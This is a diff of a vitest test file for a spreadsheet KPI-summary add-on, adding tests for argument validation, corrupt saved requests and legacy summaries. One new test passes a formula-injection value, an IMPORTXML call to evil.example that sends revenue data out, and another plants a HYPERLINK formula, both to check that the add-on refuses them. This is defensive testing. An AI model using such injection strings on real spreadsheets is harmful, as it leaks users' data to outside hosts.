@@ -5,8 +5,10 @@ import { join } from 'node:path';
 import vm from 'node:vm';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { createFakeSpreadsheet } from '../../src/local/fake';
+import { LEGACY_REQUEST_PROPERTY, OWNER_KEY, REQUEST_PREFIX } from '../../src/server/summary-record';
 import type { SidebarBuildResult, SidebarState } from '../../src/server/rpc-types';
 import { campaignRows } from '../helpers/sample-workbook';
+import { readSummary } from '../helpers/summary';
 
 const root = join(__dirname, '../..');
 let code = '';
@@ -52,8 +54,7 @@ describe('the add-on menu and sidebar RPCs in dist/Code.js', () => {
     expect(JSON.parse(JSON.stringify(state))).toEqual(state);
     const result = call<SidebarBuildResult>('sidebarBuild', { ranges, roles: {}, kpis: ['CAC', 'CPL'], targets: { CAC: 500 }, period: 'none', mode: 'portable', language: 'en' });
     expect(result).toMatchObject({ sheetName: 'KPI Summary', kpis: [{ id: 'CAC', mode: 'portable' }, { id: 'CPL', mode: 'portable' }] });
-    const rows = fake.spreadsheet.getSheetByName('KPI Summary')!.getDataRange().getValues();
-    expect(rows.find((row) => row[0] === 'CAC')![2]).toBeCloseTo(campaignRows().slice(1).reduce((s, r) => s + (r[1] as number), 0) / campaignRows().slice(1).reduce((s, r) => s + (r[7] as number), 0), 9);
+    expect(readSummary(fake).rows.find((row) => row.id === 'CAC')!.value).toBeCloseTo(campaignRows().slice(1).reduce((s, r) => s + (r[1] as number), 0) / campaignRows().slice(1).reduce((s, r) => s + (r[7] as number), 0), 9);
     expect(JSON.stringify(fake.uiEvents())).toContain('\\"KPI Summary\\" is up to date.');
     fake.spreadsheet.setActiveSheet(fake.spreadsheet.getSheetByName('Campaigns')!);
     call('sidebarActivate', result.sheetId);
@@ -68,5 +69,57 @@ describe('the add-on menu and sidebar RPCs in dist/Code.js', () => {
     expect(state.ranges[0].columns[1]).toMatchObject({ role: 'revenue', confidence: 1 });
     fake.spreadsheet.deleteSheet(fake.spreadsheet.getSheetByName('Campaigns')!);
     expect(() => call('sidebarState', ["'Campaigns'!A1:L13"], {}, 'ru')).toThrow("Диапазона 'Campaigns'!A1:L13 больше нет");
+  });
+
+  it('every RPC checks its arguments first: a formula, "__proto__" or a wrong type is refused naming the field, nothing written', () => {
+    const { fake, call } = addOn();
+    const request = { ranges: ['Campaigns!A1:L13'], roles: {}, kpis: ['CAC'], targets: {}, period: 'none', mode: 'portable', language: 'en' };
+    const period = 'none"&IMPORTXML("http://evil.example/?"&TEXTJOIN(",",1,kpi_revenue),"//a")';
+    expect(() => call('sidebarBuild', { ...request, period })).toThrow(/^period: "none\\"&IMPORTXML\(.{20,}…" is not one of none, day, week, month, quarter, year$/);
+    expect(() => call('sidebarBuild', { ...request, language: 'ru', mode: '__proto__' })).toThrow('mode: "__proto__" — не одно из значений live, portable, values');
+    expect(() => call('sidebarBuild', { ...request, targets: 'CAC' })).toThrow('targets: must be a set of named values, not "CAC"');
+    expect(() => call('sidebarBuild', 'CAC')).toThrow('request: must be a set of named values, not "CAC"');
+    expect(() => call('sidebarState', [{ a1: 'x' }], {}, null)).toThrow('ranges[0]: must be text, not {…}');
+    expect(() => call('sidebarState', [], {}, 'xx')).toThrow('language: "xx" is not one of en, fa, ar, ru');
+    expect(() => call('sidebarActivate', '0')).toThrow('sheetId: "0" is not a whole number');
+    expect(fake.spreadsheet.getSheetByName('KPI Summary')).toBeNull();
+    expect(fake.writes()).toEqual([]);
+  });
+
+  it('a corrupt saved request is discarded: the sidebar still opens with a notice, the property is removed, Rebuild says so', () => {
+    const { fake, call } = addOn('fa_IR', 'fa');
+    const properties = fake.globals().PropertiesService.getDocumentProperties();
+    const built = call<SidebarBuildResult>('sidebarBuild', { ranges: ['Campaigns!A1:L13'], roles: {}, kpis: ['CAC'], targets: {}, period: 'none', mode: 'live', language: 'fa' });
+    const key = `${REQUEST_PREFIX}${built.sheetId}`;
+    properties.setProperty(key, JSON.stringify({ ranges: ['Campaigns!A1:L13'], kpis: ['CAC'], targets: { CAC: ['=HYPERLINK("http://evil.example")', 1] }, period: 'none', mode: 'live', language: 'en' }));
+    const state = call<SidebarState>('sidebarState', [], {}, null);
+    expect(state.lastRequest).toBeNull();
+    expect(state.notice).toBe('درخواست ذخیره‌شده خلاصه خراب بود (targets["CAC"]: یک عدد می‌گیرد، نه جفت [پایین، بالا]) و کنار گذاشته شد: برای ساخت دوباره «ساخت خلاصه شاخص‌ها» را انتخاب کنید.');
+    expect(state.kpis.length).toBeGreaterThan(20);
+    expect(properties.getProperty(key)).toBeNull();
+    expect(call<SidebarState>('sidebarState', [], {}, 'en')).not.toHaveProperty('notice');
+
+    properties.setProperty(key, '{"ranges": ["Campaigns!A1:L13"], "kpis": [');
+    const before = JSON.stringify(fake.snapshot().sheets);
+    expect(() => call('sidebarRebuild')).toThrow('درخواست ذخیره‌شده خلاصه خراب بود (JSON خوانا نیست) و کنار گذاشته شد');
+    expect(properties.getProperty(key)).toBeNull();
+    expect(() => call('sidebarRebuild')).toThrow('هنوز خلاصه‌ای برای بازسازی نیست');
+    expect(JSON.stringify(fake.snapshot().sheets)).toBe(before);
+  });
+
+  it('a summary of an older version (its mark, one saved request without targets) opens and rebuilds; one whose sheet is gone says the range is gone and is kept', () => {
+    const { fake, call } = addOn();
+    const properties = fake.globals().PropertiesService.getDocumentProperties();
+    fake.spreadsheet.insertSheet('KPI Summary').addDeveloperMetadata(OWNER_KEY, 'true');
+    properties.setProperty(LEGACY_REQUEST_PROPERTY, JSON.stringify({ ranges: ['Campaigns!A1:L13'], kpis: ['CAC'], period: 'none', mode: 'portable', language: 'en' }));
+    expect(call<SidebarState>('sidebarState', [], {}, 'en').lastRequest).toEqual({ ranges: ['Campaigns!A1:L13'], roles: {}, kpis: ['CAC'], targets: {}, period: 'none', mode: 'portable', language: 'en' });
+    expect(call<SidebarBuildResult>('sidebarRebuild')).toMatchObject({ sheetName: 'KPI Summary', kpis: [{ id: 'CAC', mode: 'portable' }] });
+    fake.spreadsheet.deleteSheet(fake.spreadsheet.getSheetByName('Campaigns')!);
+    const state = call<SidebarState>('sidebarState', [], {}, 'en');
+    expect(state.lastRequest?.ranges).toEqual(['Campaigns!A1:L13']);
+    expect(state).not.toHaveProperty('notice');
+    expect(() => call('sidebarRebuild')).toThrow('The range Campaigns!A1:L13 no longer exists');
+    const id = fake.spreadsheet.getSheetByName('KPI Summary')!.getSheetId();
+    expect(properties.getProperty(`${REQUEST_PREFIX}${id}`)).not.toBeNull();
   });
 });
